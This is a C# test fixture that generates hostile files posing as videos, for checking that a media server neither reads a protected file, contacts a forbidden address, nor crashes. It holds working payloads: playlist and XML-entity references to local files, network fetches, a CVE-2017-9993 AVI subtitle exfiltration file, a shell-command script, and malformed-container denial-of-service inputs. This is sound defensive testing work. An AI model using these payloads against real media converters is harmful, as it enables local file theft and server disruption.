using System.Buffers.Binary;
using System.Globalization;
using System.Text;

namespace Provenance.Server.Tests.Hostile;

/// <summary>Files that call themselves videos and are made to have a player read other files, ask the network, or fall over.</summary>
internal static class HostileFiles
{
    /// <summary>Each with a name; <paramref name="secret"/> is a file that must never be read, <paramref name="closed"/> an address that must never be asked.</summary>
    internal static IEnumerable<(string Name, byte[] Bytes)> All(string secret, string closed)
    {
        foreach (var (name, text) in Texts(secret, closed)) yield return (name, Encoding.UTF8.GetBytes(text));
        foreach (var file in Binaries(secret)) yield return file;
    }

    private static IEnumerable<(string Name, string Text)> Texts(string secret, string closed) =>
    [
        ("hls-file", $"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-path", $"#EXTM3U\n#EXTINF:5,\n{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-http", $"#EXTM3U\n#EXTINF:5,\n{closed}\n#EXT-X-ENDLIST\n"),
        ("hls-concat", $"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{closed}|file://{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-subfile", $"#EXTM3U\n#EXTINF:5,\nsubfile,,start,0,end,64,,:{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-key", $"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"file://{secret}\"\n#EXTINF:5,\n{closed}\n#EXT-X-ENDLIST\n"),
        ("hls-master", $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{closed}\n"),
        ("hls-bom", $"\uFEFF#EXTM3U\n#EXTINF:5,\nfile://{secret}\n"),
        ("dash", $"<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT5S\"><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>file://{secret}</BaseURL></Representation></AdaptationSet></Period></MPD>"),
        ("dash-http", $"<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\"><Period><AdaptationSet><Representation><BaseURL>{closed}</BaseURL></Representation></AdaptationSet></Period></MPD>"),
        ("ffconcat", $"ffconcat version 1.0\nfile '{secret}'\n"),
        ("ffconcat-http", $"ffconcat version 1.0\nfile '{closed}'\n"),
        ("sdp", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
        ("imf", $"<CompositionPlaylist xmlns=\"http://www.smpte-ra.org/schemas/2067-3/2016\"><Id>urn:uuid:0</Id><Asset><Path>file://{secret}</Path></Asset></CompositionPlaylist>"),
        ("smooth", $"<SmoothStreamingMedia MajorVersion=\"2\"><StreamIndex Url=\"{closed}\"/></SmoothStreamingMedia>"),
        ("lavfi", $"movie={secret}"),
        ("pls", $"[playlist]\nFile1=file://{secret}\nNumberOfEntries=1\n"),
        ("asx", $"<asx version=\"3.0\"><entry><ref href=\"{closed}\"/></entry></asx>"),
        ("ram", $"{closed}\n"),
        ("rtsp", "rtsp://127.0.0.1:554/stream\n"),
        ("svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"file://{secret}\"/></svg>"),
        ("html", $"<html><script>location='{closed}'</script></html>"),
        ("xml-entity", $"<!DOCTYPE x [<!ENTITY e SYSTEM \"file://{secret}\">]><MPD>&e;</MPD>"),
        ("ansi", "\u001b[2J\u001b[31mtty\u001b[0m\n"),
        ("script", "#!/bin/sh\nid > /tmp/owned\n"),
        ("text", "This is not a video.\n"),
    ];

    private static IEnumerable<(string Name, byte[] Bytes)> Binaries(string secret) =>
    [
        ("zip", [0x50, 0x4B, 3, 4, .. new byte[400]]),
        ("pdf", Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n")),
        ("elf", [0x7F, 0x45, 0x4C, 0x46, .. new byte[400]]),
        ("xbin", [.. "XBIN\u001a"u8, .. new byte[400]]),
        ("one-byte", [0]),
        ("zeros", new byte[100_000]),
        ("ones", [.. Enumerable.Repeat((byte)0xFF, 100_000)]),
        ("ftyp-only", Box("ftyp", "isom\0\0\0\0"u8.ToArray())),
        ("ftyp-lies", [.. Box("ftyp", "isom\0\0\0\0"u8.ToArray()), 0x7F, 0xFF, 0xFF, 0xFF, .. "moov"u8]),
        ("box-of-zero", [.. Box("ftyp", "isom\0\0\0\0"u8.ToArray()), 0, 0, 0, 0, .. "mdat"u8, .. new byte[1000]]),
        ("box-huge", [.. Box("ftyp", "isom\0\0\0\0"u8.ToArray()), 0, 0, 0, 1, .. "mdat"u8, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]),
        ("boxes-nested", [.. Box("ftyp", "isom\0\0\0\0"u8.ToArray()), .. Nested(2000)]),
        ("boxes-many", [.. Box("ftyp", "isom\0\0\0\0"u8.ToArray()), .. Box("moov", [.. Enumerable.Repeat(Box("trak", []), 20_000).SelectMany(b => b)])]),
        ("alias", [.. Box("ftyp", "qt  \0\0\0\0"u8.ToArray()), .. Box("moov", Box("trak", Box("mdia", Box("minf", Box("dinf", Box("dref", [0, 0, 0, 0, 0, 0, 0, 1, .. Box("url ", [0, 0, 0, 0, .. Encoding.UTF8.GetBytes($"file://{secret}\0")])]))))))]),
        ("reference-movie", [.. Box("moov", Box("rmra", Box("rmda", Box("rdrf", [0, 0, 0, 0, .. "url "u8, 0, 0, 0, 40, .. Encoding.UTF8.GetBytes($"file://{secret}\0")]))))]),
        ("ebml-only", [0x1A, 0x45, 0xDF, 0xA3, 0x80]),
        ("ebml-huge", [0x1A, 0x45, 0xDF, 0xA3, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFE]),
        ("ebml-nested", [0x1A, 0x45, 0xDF, 0xA3, 0x80, .. Enumerable.Repeat((byte[])[0x18, 0x53, 0x80, 0x67, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF], 3000).SelectMany(b => b)]),
        ("avi-empty", [.. "RIFF"u8, 0xFF, 0xFF, 0xFF, 0xFF, .. "AVI LIST"u8, 0xFF, 0xFF, 0xFF, 0xFF, .. "hdrl"u8]),
        ("flv-empty", [.. "FLV\u0001"u8, 5, 0, 0, 0, 9, .. new byte[500]]),
        ("ogg-empty", [.. "OggS"u8, .. new byte[500]]),
        ("mpegts-noise", [.. Enumerable.Range(0, 200).SelectMany(i => (byte[])[0x47, .. Noise(187, i)])]),
        ("mpegps-noise", [0, 0, 1, 0xBA, .. Noise(5000, 1)]),
        ("asf-noise", [0x30, 0x26, 0xB2, 0x75, 0x8E, 0x66, 0xCF, 0x11, .. Noise(5000, 2)]),
        ("gab2", Gab2(secret)),
        ("swf", [.. "FWS\u0009"u8, .. new byte[500]]),
        ("id3", [.. "ID3\u0003"u8, 0, 0, 0x7F, 0x7F, 0x7F, 0x7F, .. new byte[500]]),
    ];

    private static byte[] Box(string type, byte[] content)
    {
        var box = new byte[8 + content.Length];
        BinaryPrimitives.WriteInt32BigEndian(box, box.Length);
        Encoding.ASCII.GetBytes(type).CopyTo(box, 4);
        content.CopyTo(box, 8);
        return box;
    }

    private static byte[] Nested(int depth) => Enumerable.Range(0, depth).Aggregate((byte[])[], (inner, _) => Box("moov", inner));

    // An AVI whose subtitles are a playlist: how local files once left through a converter (CVE-2017-9993).
    private static byte[] Gab2(string secret)
    {
        var playlist = Encoding.ASCII.GetBytes(string.Create(CultureInfo.InvariantCulture, $"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0\nGOD.txt\n#EXTINF:1.0\nfile://{secret}\n#EXT-X-ENDLIST\n"));
        byte[] header = [.. "RIFF"u8, 0xFF, 0, 0, 0, .. "AVI LIST"u8, 4, 0, 0, 0, .. "movi00tx"u8, 0xFF, 0, 0, 0, .. "GAB2"u8, 0, 2, 0, 0, 0, 0, 0, 4, 0];
        return [.. header, .. playlist];
    }

    private static byte[] Noise(int bytes, int seed)
    {
        var noise = new byte[bytes];
        new Random(seed).NextBytes(noise);
        return noise;
    }
}
